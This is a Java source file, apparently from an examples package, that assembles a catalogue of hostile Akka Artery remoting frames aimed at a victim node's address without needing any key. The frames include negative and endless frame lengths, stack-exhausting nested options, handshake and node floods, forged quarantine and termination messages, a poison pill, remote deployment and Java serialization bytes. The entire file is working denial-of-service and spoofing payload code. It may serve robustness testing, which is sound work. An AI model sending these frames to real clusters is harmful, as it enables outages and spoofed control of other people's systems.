package io.comity.examples.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.ArrayList;
import java.util.List;
import java.util.function.IntFunction;
import java.util.stream.IntStream;

/**
 * What harms a stock Artery, one connection each: the classes of frame that reach into an Akka node before, or in spite of,
 * any authentication. The recipes know a victim's address only; nobody's key is needed for any of them.
 */
public final class ArteryAttacks {
    private static final int REPEATS = 200;
    private static final int NESTED = 4_000;
    private static final int HUGE = 0x7ffffff0;
    private static final int ENDLESS_PIECES = 48;

    /** One connection's bytes, in pieces. */
    public record Attack(String name, List<byte[]> pieces) {}

    private final String system;
    private final String host;
    private final int port;

    /** @param system the victim's ActorSystem as far as an attacker can guess */
    public ArteryAttacks(String system, String host, int port) {
        this.system = system;
        this.host = host;
        this.port = port;
    }

    public List<Attack> all() {
        return List.of(
                new Attack("negative frame length", List.of(opening(ArteryFrame.ORDINARY), length(-4))),
                new Attack("endless frame", endless()),
                many(
                        "recipient that stalls the decoder",
                        i -> ArteryFrame.empty(path("/remote/x" + i)).encode()),
                many("compression tables of invented nodes", this::compressed),
                many(
                        "unknown serializer",
                        i -> ArteryFrame.to(gateway(), 4_711 + i, "", bytes("x"))
                                .encode()),
                one("options nested until the stack is full", ArteryFrame.to(gateway(), 16, "O", nested())),
                control("handshake as the victim itself", "d", handshake(host, port, 1)),
                many("handshakes of a thousand nodes", i -> flood(i)),
                control("quarantine order", "a", quarantine()),
                control("somebody else terminates", "b", terminating()),
                one("system message", ArteryFrame.control("j", bytes("x"))),
                one("no recipient", ArteryFrame.empty("")),
                one("null serializer", ArteryFrame.to(gateway(), 0, "", bytes("x"))),
                one("text to an actor", ArteryFrame.to(gateway(), 20, "", bytes("hello"))),
                one("poison pill", ArteryFrame.to(path("/user"), 16, "P", bytes(""))),
                one("remote deployment", ArteryFrame.to(path("/remote"), 3, "", deployment())),
                one("Java serialization", ArteryFrame.to(gateway(), 1, "", bytes("\u00ac\u00ed\u0000\u0005"))));
    }

    private Attack one(String name, ArteryFrame frame) {
        return new Attack(name, List.of(opening(ArteryFrame.ORDINARY), frame.encode()));
    }

    private Attack control(String name, String manifest, byte[] payload) {
        byte[] frame = ArteryFrame.control(manifest, payload).encode();
        return new Attack(name, List.of(opening(ArteryFrame.CONTROL), frame));
    }

    private Attack many(String name, IntFunction<byte[]> frame) {
        List<byte[]> pieces = new ArrayList<>();
        pieces.add(opening(ArteryFrame.ORDINARY));
        IntStream.range(0, REPEATS).mapToObj(frame).forEach(pieces::add);
        return new Attack(name, List.copyOf(pieces));
    }

    private static List<byte[]> endless() {
        List<byte[]> pieces = new ArrayList<>(List.of(opening(ArteryFrame.ORDINARY), length(HUGE)));
        byte[] zeros = new byte[1 << 16];
        for (int i = 0; i < ENDLESS_PIECES; i++) {
            pieces.add(zeros);
        }
        return pieces;
    }

    private byte[] compressed(int i) {
        int compressedTag = 0xff000000 | i;
        return new ArteryFrame(0x1_0000_0000L + i, 20, "", gateway(), "", bytes("x"))
                .encode(compressedTag, 30, compressedTag);
    }

    private byte[] flood(int i) {
        return ArteryFrame.control("d", handshake("127.0.0." + (1 + i % 250), 1 + i, 1_000 + i))
                .encode();
    }

    /** HandshakeReq: UniqueAddress from = 1, Address to = 2. */
    private byte[] handshake(String fromHost, int fromPort, long uid) {
        return new Protobuf()
                .bytes(1, unique(address(fromHost, fromPort), uid))
                .bytes(2, address(host, port))
                .encode();
    }

    /** Quarantined: UniqueAddress from = 1, to = 2. */
    private byte[] quarantine() {
        byte[] victim = unique(address(host, port), 1);
        return new Protobuf().bytes(1, victim).bytes(2, victim).encode();
    }

    /** MessageWithAddress: UniqueAddress = 1. */
    private byte[] terminating() {
        return new Protobuf().bytes(1, unique(address(host, port), 1)).encode();
    }

    private byte[] address(String ofHost, int ofPort) {
        return new Protobuf()
                .text(1, "akka")
                .text(2, system)
                .text(3, ofHost)
                .number(4, ofPort)
                .encode();
    }

    private static byte[] unique(byte[] address, long uid) {
        return new Protobuf().bytes(1, address).fixed64(2, uid).encode();
    }

    /** Option: Payload = 1; Payload: message = 1, serializer = 2, manifest = 4. */
    private static byte[] nested() {
        byte[] inner = {};
        for (int depth = 0; depth < NESTED && inner.length < 60_000; depth++) {
            byte[] payload =
                    new Protobuf().bytes(1, inner).number(2, 16).text(4, "O").encode();
            inner = new Protobuf().bytes(1, payload).encode();
        }
        return inner;
    }

    /** DaemonMsgCreate: Props = 1, Deploy = 2, path = 3, supervisor = 4. */
    private byte[] deployment() {
        return new Protobuf()
                .bytes(
                        1,
                        new Protobuf().text(2, "akka.actor.EmptyLocalActorRef").encode())
                .text(3, path("/remote/x"))
                .text(4, path("/user"))
                .encode();
    }

    private String gateway() {
        return path("/user/gateway");
    }

    private String path(String below) {
        return "akka://" + system + "@" + host + ":" + port + below;
    }

    private static byte[] opening(byte stream) {
        return ArteryFrame.opening(stream);
    }

    private static byte[] length(int value) {
        return ByteBuffer.allocate(4)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(value)
                .array();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(UTF_8);
    }
}
